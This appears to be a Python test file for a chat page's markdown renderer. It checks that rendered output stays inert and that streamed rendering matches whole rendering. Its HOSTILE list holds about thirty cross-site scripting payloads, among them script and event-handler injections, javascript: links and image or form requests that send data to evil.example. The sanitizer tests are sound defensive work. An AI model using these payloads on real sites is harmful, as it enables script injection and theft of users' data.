"""What the chat page shows of a model's markdown: nothing dangerous, nothing lost, and the same however it arrives."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from freehold.server.pages.highlight import MAX_CODE_CHARS
from freehold.server.pages.markdown import MAX_TEXT_CHARS, render

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](blob:https://a/b)",
    "[x](/admin/stop)",
    "[x](//evil.example/a)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/a.png?q=secret)",
    '![x"onload="alert(1)](https://evil.example/a.png "t" )',
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "<style>@import 'https://evil.example'</style>",
    "<form action=https://evil.example><input name=q></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p id=question class=composer style='position:fixed'>x</p>",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script\x00>alert(1)</script>",
)
TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "strong", "em", "s"),
    *("code", "pre", "span", "a", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"class", "data-language", "href", "rel", "start", "target", "title"}


class Elements(HTMLParser):
    """Every element and attribute of a fragment, read by a parser that is not the sanitizer's."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def html_of(text: str) -> str:
    rendered = render(text)
    return rendered.settled_html + rendered.open_html


def assert_inert(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        if href := attributes.get("href"):
            assert href.startswith(("http://", "https://", "mailto:"))
        if tag == "a":
            assert attributes["target"] == "_blank"
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_inert_html(text: str) -> None:
    assert_inert(html_of(text))


@given(st.lists(st.sampled_from([*HOSTILE, "\n\n", "- ", "> ", "*", "`", "```\n", "|", "[", "](", ")", "<", '"'])))
@settings(max_examples=200, deadline=None)
def test_hostile_pieces_stay_inert_however_they_are_joined(pieces: list[str]) -> None:
    assert_inert(html_of("".join(pieces)[:MAX_TEXT_CHARS]))


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    assert html_of("Use <b>bold</b> & <br>.") == "<p>Use &lt;b&gt;bold&lt;/b&gt; &amp; &lt;br&gt;.</p>\n"


def test_a_picture_becomes_a_link_that_says_so() -> None:
    html = html_of("![a *chart*](https://example.org/x.png)")
    assert "<img" not in html
    assert 'href="https://example.org/x.png"' in html
    assert "Picture not loaded: a chart" in html


def test_an_address_of_this_house_is_not_made_a_link() -> None:
    assert "href" not in html_of("[free credits](/admin/stop)")


def test_code_carries_its_language_and_its_highlighting() -> None:
    html = html_of("```Python title=x\nreturn 1\n```")
    assert html.startswith('<pre data-language="python"><code><span class="k">return</span>')


@pytest.mark.parametrize("info", ["", "no-such-language", "<b>"])
def test_code_in_no_known_language_is_shown_plain(info: str) -> None:
    html = html_of(f"```{info}\nif x < 1:\n```")
    assert "if x &lt; 1:" in html
    assert "<span" not in html


def test_code_beyond_the_bound_is_shown_plain_and_whole() -> None:
    code = "x = 1\n" * (MAX_CODE_CHARS // 6 + 1)
    html = html_of(f"```python\n{code}```")
    assert "<span" not in html
    assert html.count("x = 1") == code.count("x = 1")


def test_a_table_keeps_its_alignment_without_inline_style() -> None:
    html = html_of("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th class="center">a</th>' in html
    assert '<td class="right">2</td>' in html
    assert "style" not in html


def test_one_block_is_open_and_none_settled() -> None:
    rendered = render("Only one\nparagraph.")
    assert (rendered.settled_html, rendered.settled_lines) == ("", 0)
    assert rendered.open_html == "<p>Only one\nparagraph.</p>\n"


def test_what_comes_before_the_last_block_is_settled() -> None:
    rendered = render("# Title\n\nFirst.\n\n- a\n- b")
    assert rendered.settled_html == "<h1>Title</h1>\n<p>First.</p>\n"
    assert rendered.settled_lines == 4
    assert rendered.open_html == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"


def test_an_empty_text_is_empty_html() -> None:
    assert html_of("") == ""


_BLOCKS = st.sampled_from(
    [
        "A paragraph\nof two lines.\n\n",
        "# Heading\n",
        "Setext\n===\n",
        "- a\n- b\n\n  more of b\n\n",
        "1. one\n2. two\n",
        "```python\ndef f():\n\n    return 1\n```\n",
        "~~~\nunclosed?\n\nno\n~~~\n",
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n",
        "> quoted\nlazily\n\n",
        "    indented code\n\n",
        "---\n",
        "\n",
        "*emphasis* and `code` and ünïcödé 🏡.\n\n",
    ]
)


@given(st.lists(_BLOCKS, max_size=8), st.data())
@settings(max_examples=300, deadline=None)
def test_an_answer_in_pieces_renders_as_the_whole_does(blocks: list[str], data: st.DataObject) -> None:
    text = "".join(blocks)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    kept, offset, opened = "", 0, ""
    for cut in [*cuts, len(text)]:
        if cut < offset:
            continue
        rest = text[offset:cut]
        rendered = render(rest)
        kept += rendered.settled_html
        opened = rendered.open_html
        offset += sum(len(line) for line in rest.splitlines(keepends=True)[: rendered.settled_lines])
    assert kept + opened == html_of(text)
